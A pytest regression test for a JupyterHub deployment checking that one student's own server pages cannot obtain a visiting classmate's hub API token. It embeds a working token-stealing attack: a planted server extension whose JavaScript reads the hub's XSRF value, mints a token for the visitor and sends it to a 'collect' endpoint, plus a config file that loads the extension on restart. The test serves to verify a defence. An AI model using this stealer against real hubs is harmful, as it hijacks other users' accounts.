"""An origin per user: a student's own server pages cannot act as a visitor on the hub (issue 16, item 1).

The exploit: a student adds a page to their own server through ~/.jupyter/jupyter_server_config.py,
restarts it, and sends the link to a logged-in classmate; the page's script reads the hub's XSRF value,
creates an API token for the visitor and sends it back to the student's server.
"""

from __future__ import annotations

import textwrap

import pytest
import requests

pytestmark = [pytest.mark.hub, pytest.mark.browser]

# A server extension, as any student may write: an unauthenticated page that, opened by someone logged
# in to the hub, asks the hub for a token of the visitor and keeps it.
STEALER = '''
import json, os
from tornado import web
from jupyter_server.utils import url_path_join

LOOT = os.path.expanduser("~/loot.json")
PAGE = """<!doctype html><title>homework</title><script>
const hub = %s;
async function steal() {
  const page = await (await fetch(hub + "/hub/token", {credentials: "include"})).text();
  const xsrf = page.match(/xsrf_token: "([^"]+)"/)[1];
  const user = page.match(/user: "([^"]+)"/)[1];
  const made = await fetch(hub + "/hub/api/users/" + user + "/tokens", {
    method: "POST", credentials: "include",
    headers: {"X-XSRFToken": xsrf, "Content-Type": "application/json"},
    body: JSON.stringify({note: "homework"}),
  });
  const token = (await made.json()).token;
  await fetch("collect", {method: "POST", body: JSON.stringify({user: user, token: token})});
}
steal().catch(e => { document.body.dataset.error = String(e); })
       .finally(() => { document.title = "done"; });
</script>"""


class Page(web.RequestHandler):
    def get(self):
        self.finish(PAGE % json.dumps(os.environ.get("JUPYTERHUB_HOST", "")))


class Collect(web.RequestHandler):
    def check_xsrf_cookie(self):
        pass

    def post(self):
        with open(LOOT, "w") as f:
            f.write(self.request.body.decode())

    def get(self):
        self.finish(open(LOOT).read() if os.path.exists(LOOT) else "{}")


def _load_jupyter_server_extension(app):
    base = app.web_app.settings["base_url"]
    app.web_app.add_handlers(".*$", [
        (url_path_join(base, "homework"), Page),
        (url_path_join(base, "collect"), Collect),
    ])
'''

# Config files are Python: this one adds the page when the server builds its web app.
CONFIG = """
import os, sys
sys.path.insert(0, os.path.expanduser("~/.jupyter"))
import stealer
from jupyter_server.serverapp import ServerApp
_init_webapp = ServerApp.init_webapp
def init_webapp(self):
    _init_webapp(self)
    stealer._load_jupyter_server_extension(self)
ServerApp.init_webapp = init_webapp
"""


def plant_stealer(hub, student: str, token: str) -> str:
    """The student's own config adds the page; the server restarted; the page's URL."""
    code = textwrap.dedent(f"""
        import os
        os.makedirs(os.path.expanduser("~/.jupyter"), exist_ok=True)
        open(os.path.expanduser("~/.jupyter/stealer.py"), "w").write({STEALER!r})
        open(os.path.expanduser("~/.jupyter/jupyter_server_config.py"), "w").write({CONFIG!r})
    """)
    hub.spawn(student, token)
    hub.run(student, token, code)
    hub.api().stop_server(student)
    from tests.conftest import wait_for

    wait_for(lambda: not hub.api().json("GET", f"users/{student}")["servers"], what="the stop")
    url = hub.spawn(student, token)
    page = requests.get(url + "homework", timeout=30)
    assert page.status_code == 200 and "steal()" in page.text, "the student's page is not served"
    return url


def visit(hub, browser, visitor: str, url: str) -> dict:
    """The visitor logs in to the hub in Chromium, then opens the student's link; what the page sent home."""
    context = browser.new_context()
    page = context.new_page()
    page.set_default_timeout(60_000)
    page.goto(hub.url + "hub/login?next=%2Fhub%2Fhome")
    page.fill("input[name=username]", visitor)
    page.fill("input[name=password]", hub.passwords[visitor])
    page.click("input[type=submit], button[type=submit]")
    page.wait_for_url("**/hub/home")
    page.goto(url + "homework")
    page.wait_for_function("document.title === 'done'")
    context.close()
    return requests.get(url + "collect", timeout=30).json()


def answers_as(hub, token: str | None) -> str | None:
    """The name the hub's API knows `token` by, or None."""
    if not token:
        return None
    response = requests.get(hub.url + "hub/api/user", headers={"Authorization": f"token {token}"}, timeout=30)
    return response.json()["name"] if response.status_code == 200 else None


def test_a_students_page_cannot_take_a_visitors_token(fork_hub, browser):
    hub = fork_hub
    student, visitor = hub.create_accounts("org", 2)
    url = plant_stealer(hub, student, hub.token_for(student))
    loot = visit(hub, browser, visitor, url)
    assert answers_as(hub, loot.get("token")) != visitor, "the student's page took the visitor's token"
